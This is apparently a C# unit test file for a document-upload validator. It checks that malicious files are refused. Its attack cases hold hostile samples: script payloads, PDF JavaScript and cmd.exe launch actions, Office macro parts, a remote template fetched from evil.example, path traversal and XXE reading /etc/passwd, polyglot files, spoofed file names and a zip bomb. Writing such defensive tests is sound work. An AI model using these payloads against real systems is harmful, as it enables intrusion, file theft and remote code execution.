using Caseclock.Application.Documents;
using FsCheck;
using FsCheck.Fluent;

namespace Caseclock.Application.Tests.Documents;

public class FileCheckTests
{
    public static TheoryData<string, byte[]> Good => new()
    {
        { "plan.pdf", SampleFiles.Pdf() },
        { "Plan.PDF", SampleFiles.Pdf() },
        { "advice.docx", SampleFiles.Docx() },
        { "table.xlsx", SampleFiles.Xlsx() },
        { "slides.pptx", SampleFiles.Pptx() },
        { "views.odt", SampleFiles.Odt() },
        { "note.txt", SampleFiles.Text },
        { "drawing.jpg", SampleFiles.Jpg },
        { "drawing.jpeg", SampleFiles.Jpg },
        { "drawing.png", SampleFiles.Png },
        { "plan.exe.pdf", SampleFiles.Pdf() },
        { "packed.pdf", SampleFiles.Pdf(">>\nstream\n\u0001/JS \u0002\nendstream\n<<") },
        { "libre.odt", SampleFiles.Odt(("Configurations2/accelerator/current.xml", ""), ("META-INF/manifest.xml", "<x/>")) },
        { "linked.docx", SampleFiles.Docx(("word/_rels/document.xml.rels", """<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.gov.uk" TargetMode="External"/></Relationships>""")) },
    };

    public static TheoryData<string, byte[], string> Attacks => new()
    {
        { "run.exe", [.. "MZ"u8, 0, 0], "type is not taken" },
        { "page.html", SampleFiles.Bytes("<script>alert(1)</script>"), "type is not taken" },
        { "picture.svg", SampleFiles.Bytes("<svg onload='alert(1)'/>"), "type is not taken" },
        { "old.doc", [0xD0, 0xCF, 0x11, 0xE0], "type is not taken" },
        { "macro.docm", SampleFiles.Docx(), "type is not taken" },
        { "mail.eml", SampleFiles.Bytes("From: a@b"), "type is not taken" },
        { "all.zip", SampleFiles.Zip(("a.txt", "a")), "type is not taken" },
        { "noend", SampleFiles.Pdf(), "type is not taken" },
        { "", SampleFiles.Pdf(), "type is not taken" },
        { "plan\u202Efdp.exe", SampleFiles.Pdf(), "type is not taken" },
        { "plan.pdf\u0000.exe", SampleFiles.Pdf(), "type is not taken" },
        { "plan.pdf", [], "empty" },
        { "plan.pdf", [.. "MZ"u8, .. SampleFiles.Pdf()], "something else" },
        { "plan.pdf", SampleFiles.Docx(), "something else" },
        { "plan.docx", SampleFiles.Pdf(), "something else" },
        { "plan.docx", SampleFiles.Xlsx(), "something else" },
        { "plan.docx", SampleFiles.Zip(("a.txt", "a")), "something else" },
        { "plan.xlsx", SampleFiles.Docx(), "something else" },
        { "plan.odt", SampleFiles.Zip(("mimetype", "application/zip"), ("content.xml", "<x/>")), "something else" },
        { "drawing.png", SampleFiles.Jpg, "something else" },
        { "drawing.jpg", SampleFiles.Png, "something else" },
        { "drawing.png", [.. SampleFiles.Png, .. SampleFiles.Zip(("a.txt", "a"))], "something else" },
        { "drawing.png", SampleFiles.Png[..^6], "something else" },
        { "drawing.jpg", [.. SampleFiles.Jpg, .. SampleFiles.Zip(("a.jar", "a"))], "two files in one" },
        { "plan.pdf", [.. SampleFiles.Pdf(), .. SampleFiles.Zip(("a.jar", "a"))], "two files in one" },
        { "plan.pdf", [.. SampleFiles.Pdf(), .. SampleFiles.Bytes("<html><script>alert(1)</script>")], "stands behind its end" },
        { "plan.pdf", SampleFiles.Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "script" },
        { "plan.pdf", SampleFiles.Pdf("/OpenAction << /S /J#61vaScript >>"), "script" },
        { "plan.pdf", SampleFiles.Pdf("/AA << /S /Rendition /JS (x) >>"), "script" },
        { "plan.pdf", SampleFiles.Pdf("/AA << /S /Launch /F (cmd.exe) >>"), "starts a program" },
        { "plan.pdf", SampleFiles.Pdf("/Names << /EmbeddedFile 3 0 R >>"), "another file" },
        { "plan.pdf", SampleFiles.Pdf("/Encrypt 5 0 R"), "password" },
        { "note.txt", SampleFiles.Bytes("  \n<!doctype html><script>alert(1)</script>"), "not plain text" },
        { "note.txt", SampleFiles.Bytes("{\\rtf1 \\object}"), "not plain text" },
        { "note.txt", [.. "MZ"u8, 0x90, 0x00], "not plain text" },
        { "note.txt", [.. SampleFiles.Text, .. SampleFiles.Zip(("a.txt", "a"))], "not plain text" },
        { "plan.docx", SampleFiles.Docx(("word/vbaProject.bin", "x")), "macro" },
        { "plan.docx", SampleFiles.Docx(("word/VBAPROJECT.BIN", "x")), "macro" },
        { "plan.docx", SampleFiles.Docx(("word/activeX/activeX1.xml", "x")), "macro" },
        { "plan.docx", SampleFiles.Docx(("word/embeddings/oleObject1.bin", "x")), "macro" },
        { "table.xlsx", SampleFiles.Xlsx(("xl/macrosheets/sheet1.xml", "x")), "macro" },
        { "views.odt", SampleFiles.Odt(("Basic/Standard/Module1.xml", "x")), "macro" },
        { "plan.docx", SampleFiles.Zip(("[Content_Types].xml", """<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"""), ("word/document.xml", "<x/>")), "macro" },
        { "plan.docx", SampleFiles.Docx(("word/_rels/settings.xml.rels", """<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>""")), "fetches" },
        { "plan.docx", SampleFiles.Docx(("../../etc/passwd", "x")), "cannot be opened" },
        { "plan.docx", SampleFiles.Docx(("word/a\\b.xml", "x")), "cannot be opened" },
        { "plan.docx", SampleFiles.Docx(("WORD/document.xml", "x")), "cannot be opened" },
        { "plan.docx", [.. SampleFiles.Docx(), 0], "cannot be opened" },
        { "plan.docx", SampleFiles.Docx()[..^30], "cannot be opened" },
        { "plan.docx", SampleFiles.Docx(("word/_rels/document.xml.rels", """<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>""")), "cannot be opened" },
        { "plan.docx", SampleFiles.Encrypted(SampleFiles.Docx()), "password" },
        { "plan.docx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], "password" },
        { "plan.docx", SampleFiles.Bomb(), "unpacks" },
    };

    [Theory]
    [MemberData(nameof(Good))]
    public void Of_WhatItSaysItIs_IsTaken(string name, byte[] content) => Assert.IsType<Checked.Accepted>(FileCheck.Of(name, content));

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Of_WhatItIsNot_IsRefusedWithTheReason(string name, byte[] content, string reason) =>
        Assert.Contains(reason, Assert.IsType<Checked.Refused>(FileCheck.Of(name, content)).Reason, StringComparison.Ordinal);

    [Fact]
    public void Of_TooLarge_SaysHowLargeAndHowMuchIsTaken()
    {
        var content = new byte[FileCheck.Most + 1];
        SampleFiles.Pdf().CopyTo(content, 0);

        var reason = Assert.IsType<Checked.Refused>(FileCheck.Of("plan.pdf", content)).Reason;
        Assert.Contains("25.0 MB; at most 25 MB", reason, StringComparison.Ordinal);
    }

    // A bomb says of itself what it likes: it is counted as it unpacks, and left alone before it fills the memory.
    [Fact]
    public void Of_ABomb_IsLeftBeforeItFillsTheMemory()
    {
        var bomb = SampleFiles.Bomb();
        Assert.True(bomb.Length < 1024 * 1024);
        var before = GC.GetTotalAllocatedBytes();
        Assert.IsType<Checked.Refused>(FileCheck.Of("plan.docx", bomb));
        Assert.True(GC.GetTotalAllocatedBytes() - before < 20 * 1024 * 1024);
    }

    [Fact]
    public void Of_AnyBytesUnderAnyName_NeverThrowsAndNeverTakesAnotherType()
    {
        string[] ends = [.. FileType.All.Select(type => type.Extension), "exe", "html", ""];
        byte[][] seeds = [SampleFiles.Pdf(), SampleFiles.Docx(), SampleFiles.Png, SampleFiles.Jpg, SampleFiles.Odt(), SampleFiles.Text];
        var files = from end in Gen.Elements(ends)
                    from seed in Gen.Elements(seeds)
                    from cut in Gen.Choose(0, 400)
                    from noise in Gen.Choose(0, 255).ListOf(8)
                    select (Name: "x." + end, Content: seed[..Math.Min(cut, seed.Length)].Concat(noise.Select(value => (byte)value)).ToArray());
        Prop.ForAll(files.ToArbitrary(), file => FileCheck.Of(file.Name, file.Content) is not Checked.Accepted accepted || file.Name.EndsWith("." + accepted.Type.Extension, StringComparison.Ordinal))
            .Check(Config.QuickThrowOnFailure.WithReplay(2025, 11).WithMaxTest(500));
    }

    [Theory]
    [InlineData("../../etc/passwd.pdf", "passwd.pdf")]
    [InlineData("C:\\Users\\x\\plan.pdf", "plan.pdf")]
    [InlineData("pl\u202Ean\u0007.pdf", "plan.pdf")]
    [InlineData("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf")]
    [InlineData("  .. plan . pdf .. ", "plan . pdf")]
    [InlineData("<b>\"plan\"</b>.pdf", "b.pdf")]
    [InlineData(null, "")]
    public void Clean_AnyName_IsHarmless(string? name, string clean) => Assert.Equal(clean, FileNames.Clean(name));
}
